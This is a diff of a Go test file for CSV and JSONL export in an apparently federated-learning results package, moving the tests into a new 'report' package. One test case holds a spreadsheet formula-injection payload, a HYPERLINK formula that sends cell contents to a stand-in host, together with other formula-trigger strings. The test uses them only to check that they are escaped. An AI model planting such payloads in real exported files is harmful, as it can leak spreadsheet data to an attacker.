@@ -1,4 +1,4 @@
-package results
+package report
 
 import (
 	"bytes"
@@ -10,14 +10,15 @@ import (
 	"strings"
 	"testing"
 
+	"fedbayes.dev/fedbayes/results"
 	"fedbayes.dev/fedbayes/runinfo"
 )
 
 // exportRun is a run in memory with one row per metrics map, rounds from 1.
-func exportRun(setting string, labels map[string]string, seed int64, rows ...map[string]float64) Run {
-	r := Run{Meta: Meta{Setting: setting, Labels: labels, Seed: seed}}
+func exportRun(setting string, labels map[string]string, seed int64, rows ...map[string]float64) results.Run {
+	r := results.Run{Meta: results.Meta{Setting: setting, Labels: labels, Seed: seed}}
 	for i, m := range rows {
-		r.Rows = append(r.Rows, Row{Round: i + 1, Metrics: m})
+		r.Rows = append(r.Rows, results.Row{Round: i + 1, Metrics: m})
 	}
 	return r
 }
@@ -26,14 +27,14 @@ func TestTidyCSVAndJSONL(t *testing.T) {
 	nan, inf := math.NaN(), math.Inf(1)
 	tests := []struct {
 		name      string
-		runs      []Run
+		runs      []results.Run
 		wantCSV   string
 		wantJSONL string
 		wantErr   string
 	}{
 		{
 			name: "labels, seeds, rounds and metrics as columns",
-			runs: []Run{
+			runs: []results.Run{
 				exportRun("eaa", map[string]string{"rule": "eaa", "dataset": "digits"}, 1,
 					map[string]float64{"zeta": 2, "nll": 0.5, "accuracy": 0.75}, map[string]float64{"nll": 0.25, "accuracy": 0.875}),
 				exportRun("gaa", map[string]string{"rule": "gaa"}, 2, map[string]float64{"accuracy": 0.5, "ece": 0.125}),
@@ -48,33 +49,33 @@ func TestTidyCSVAndJSONL(t *testing.T) {
 		},
 		{
 			name: "non-finite values are empty cells and null",
-			runs: []Run{exportRun("x", nil, 3, map[string]float64{"accuracy": 0.1, "nll": nan, "loss": inf})},
+			runs: []results.Run{exportRun("x", nil, 3, map[string]float64{"accuracy": 0.1, "nll": nan, "loss": inf})},
 			wantCSV: "setting,seed,round,accuracy,nll,loss\n" +
 				"x,3,1,0.1,,\n",
 			wantJSONL: `{"setting":"x","seed":3,"round":1,"accuracy":0.1,"nll":null,"loss":null}` + "\n",
 		},
 		{
 			name: "a label with a comma or quote is quoted in CSV",
-			runs: []Run{exportRun("s", map[string]string{"note": `a,"b"`}, 1, map[string]float64{"accuracy": 1})},
+			runs: []results.Run{exportRun("s", map[string]string{"note": `a,"b"`}, 1, map[string]float64{"accuracy": 1})},
 			wantCSV: "setting,note,seed,round,accuracy\n" +
 				`s,"a,""b""",1,1,1` + "\n",
 			wantJSONL: `{"setting":"s","note":"a,\"b\"","seed":1,"round":1,"accuracy":1}` + "\n",
 		},
 		{
 			name: "a label named like a metric or a fixed column is label.NAME",
-			runs: []Run{exportRun("lr-0.1", map[string]string{"lr": "0.1", "round": "r", "rule": "gaa"}, 1, map[string]float64{"accuracy": 1, "lr": 0.1})},
+			runs: []results.Run{exportRun("lr-0.1", map[string]string{"lr": "0.1", "round": "r", "rule": "gaa"}, 1, map[string]float64{"accuracy": 1, "lr": 0.1})},
 			wantCSV: "setting,label.lr,label.round,rule,seed,round,accuracy,lr\n" +
 				"lr-0.1,0.1,r,gaa,1,1,1,0.1\n",
 			wantJSONL: `{"setting":"lr-0.1","label.lr":"0.1","label.round":"r","rule":"gaa","seed":1,"round":1,"accuracy":1,"lr":0.1}` + "\n",
 		},
 		{
 			name:    "label.NAME taken by another label",
-			runs:    []Run{exportRun("s", map[string]string{"accuracy": "high", "label.accuracy": "x"}, 1, map[string]float64{"accuracy": 1})},
+			runs:    []results.Run{exportRun("s", map[string]string{"accuracy": "high", "label.accuracy": "x"}, 1, map[string]float64{"accuracy": 1})},
 			wantErr: `two columns are named "label.accuracy"`,
 		},
 		{
 			name: "formulas in setting names, labels and label names are text",
-			runs: []Run{exportRun(`=HYPERLINK("http://x.example/?"&A1,"click")`, map[string]string{"@cmd": "+SUM(A1)", "tab": "\tx", "cr": "\rx", "neg": "-0.5", "minus": "-x"}, 1,
+			runs: []results.Run{exportRun(`=HYPERLINK("http://x.example/?"&A1,"click")`, map[string]string{"@cmd": "+SUM(A1)", "tab": "\tx", "cr": "\rx", "neg": "-0.5", "minus": "-x"}, 1,
 				map[string]float64{"accuracy": -1})},
 			wantCSV: "setting,'@cmd,cr,minus,neg,tab,seed,round,accuracy\n" +
 				`"'=HYPERLINK(""http://x.example/?""&A1,""click"")",'+SUM(A1),"'` + "\r" + `x",'-x,-0.5,'` + "\tx,1,1,-1\n",
@@ -119,11 +120,11 @@ func TestTidyCSVAndJSONL(t *testing.T) {
 func TestTidyFromDisk(t *testing.T) {
 	root := t.TempDir()
 	for seed := int64(1); seed <= 2; seed++ {
-		meta, err := NewMeta("eaa-iid", map[string]string{"rule": "eaa", "partition": "iid"}, seed, map[string]any{"rule": "eaa"}, runinfo.Info{Backend: "test"})
+		meta, err := results.NewMeta("eaa-iid", map[string]string{"rule": "eaa", "partition": "iid"}, seed, map[string]any{"rule": "eaa"}, runinfo.Info{Backend: "test"})
 		if err != nil {
 			t.Fatal(err)
 		}
-		w, err := Create(filepath.Join(root, RunName(meta.Setting, seed)), meta)
+		w, err := results.Create(filepath.Join(root, results.RunName(meta.Setting, seed)), meta)
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -132,7 +133,7 @@ func TestTidyFromDisk(t *testing.T) {
 			if seed == 2 && round == 2 {
 				nll = math.Inf(1) // possible in a completed run; a NaN is not
 			}
-			if err := w.Append(Row{Round: round, Metrics: map[string]float64{Accuracy: 0.5 + float64(round)/10 + float64(seed)/100, NLL: nll}}); err != nil {
+			if err := w.Append(results.Row{Round: round, Metrics: map[string]float64{results.Accuracy: 0.5 + float64(round)/10 + float64(seed)/100, results.NLL: nll}}); err != nil {
 				t.Fatal(err)
 			}
 		}
@@ -140,7 +141,7 @@ func TestTidyFromDisk(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
-	runs, skipped, err := Load(root)
+	runs, skipped, err := results.Load(root)
 	if err != nil || len(skipped) > 0 || len(runs) != 2 {
 		t.Fatalf("Load: %d runs, skipped %v, %v", len(runs), skipped, err)
 	}
